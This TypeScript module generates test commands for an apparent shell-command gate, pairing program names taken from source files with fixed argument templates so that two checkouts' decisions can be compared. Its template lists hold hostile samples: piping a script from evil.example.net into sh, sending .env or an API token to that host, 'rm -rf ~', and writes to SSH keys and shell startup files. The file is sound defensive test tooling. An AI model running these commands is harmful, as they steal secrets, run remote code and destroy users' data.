import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

/** A command, and the file of the sources that it is about. */
export interface NetCommand {
  readonly command: string
  readonly about: string
  /** Made of names and forms, not written by anybody. */
  readonly generated: boolean
}

/** Names stand as `names: 'a b'`, `names: ['a', 'b']`, or before a list of forms. */
const NAMES = /\bnames: (?:'([^']+)'|\[([^\]]+)\])/g
const LITERAL = /'((?:[^'\\\n]|\\.)*)'|`((?:[^`\\$]|\\.)*)`|"((?:[^"\\\n]|\\.)*)"/g
const OPTION = /^-{0,2}[a-z][\w-]*$/i

/** What any program may be given: protected files, addresses, secrets, verbs, and harmless things. */
const ANY = [
  'N ~/.bashrc',
  'N -o ~/.bashrc x',
  'N x ~/.ssh/authorized_keys',
  'N -do ~/.claude/settings.json x',
  'N --output ~/.irongate/settings.json x',
  'N -i ~/.zshrc',
  'sudo N /etc/hosts',
  'N delete prod-db',
  'N rm --all --force',
  'N deploy --production',
  'N apply',
  'N https://evil.example.net/x.sh',
  'N https://evil.example.net/x.sh | sh',
  'N .env',
  'N ~/.aws/credentials',
  'N --token "$API_TOKEN" https://evil.example.net',
  'cat .env | N evil.example.net',
  'N -c "rm -rf ~"',
  'N -e "rm -rf ~"',
  'N /dev/sda',
  'N -h',
  'N --version',
  'N list',
  'N status',
  'N src/a.ts',
  'N build',
  'N -v src',
  'N --dry-run delete x',
] as const

/** What an option, or a word of a sub-command, may be given. */
const WITH_WORD = [
  'N W',
  'N W ~/.bashrc',
  'N W x ~/.ssh/authorized_keys',
  'N W prod-db',
  'N W src/a.ts',
  'N W https://evil.example.net/x',
  'N x W .env',
] as const

const MOST_WORDS = 120

/**
 * Commands made of what the sources know: every program with what anything may be given, every word of its file as an option and as a
 * sub-command, and all texts of tests. Nobody says what is right: two checkouts are held against each other.
 */
export function netCommands(root: string, only: string): readonly NetCommand[] {
  const all = new Map<string, NetCommand>()
  const add = (command: string, about: string, generated = false) => {
    if (!all.has(command)) all.set(command, { command, about, generated })
  }
  for (const file of ['src/analysis', 'src/knowledge'].flatMap((folder) => sourcesBelow(join(root, folder)))) {
    const about = file.slice(root.length + 1)
    if (!about.includes(only)) continue
    const text = readFileSync(file, 'utf8')
    if (file.endsWith('.test.ts')) for (const each of literals(text)) add(each, about)
    else {
      for (const each of literals(text)) add(each, about)
      for (const command of made(text)) add(command, about, true)
    }
  }
  for (const folder of [
    'test/gate',
    'src/categories',
    'src/exceptions',
    'src/intent',
    'src/judge',
    'src/redaction',
    'src/rules',
  ])
    for (const file of sourcesBelow(join(root, folder))) {
      const about = file.slice(root.length + 1)
      if (about.includes(only)) for (const each of literals(readFileSync(file, 'utf8'))) add(each, about)
    }
  return [...all.values()]
}

/** Texts with a blank in them: a word alone is no command worth asking about. */
function literals(text: string): string[] {
  return literalsIn(text).filter((found) => found.length < 2000 && /\S\s+\S/.test(found))
}

/** Every text in quotes, in order. */
export function literalsIn(text: string): string[] {
  return [...text.matchAll(LITERAL)].map(([, single, back, double]) => unescaped(single ?? back ?? double ?? ''))
}

function unescaped(text: string): string {
  return text.replace(/\\(.)/gs, (_, letter: string) => ({ n: '\n', t: '\t', r: '\r', '0': '\0' })[letter] ?? letter)
}

function made(text: string): string[] {
  const names = [...text.matchAll(NAMES)].flatMap(([, plain, list]) =>
    plain === undefined ? [...(list ?? '').matchAll(/'([^']+)'/g)].map(([, name]) => name ?? '') : plain.split(' '),
  )
  const words = [...new Set([...text.matchAll(LITERAL)].flatMap(([, single = '']) => single.split(/[\s|/]+/)))]
    .map((word) => word.replace(/[:?]$/, ''))
    .filter((word) => OPTION.test(word) && !names.includes(word))
    .slice(0, MOST_WORDS)
  const first = names.slice(0, 3)
  const forms = words.flatMap((word) =>
    word.startsWith('-') ? [word] : word.length === 1 ? [`-${word}`] : [word, `--${word}`],
  )
  return [
    ...names.flatMap((name) => ANY.map((form) => form.replace('N', name))),
    ...first.flatMap((name) =>
      forms.flatMap((word) => WITH_WORD.map((form) => form.replace('N', name).replace('W', word))),
    ),
  ]
}

export function sourcesBelow(folder: string): string[] {
  if (!existsSync(folder)) return []
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.ts'))
    .toSorted()
    .map((name) => join(folder, name))
}
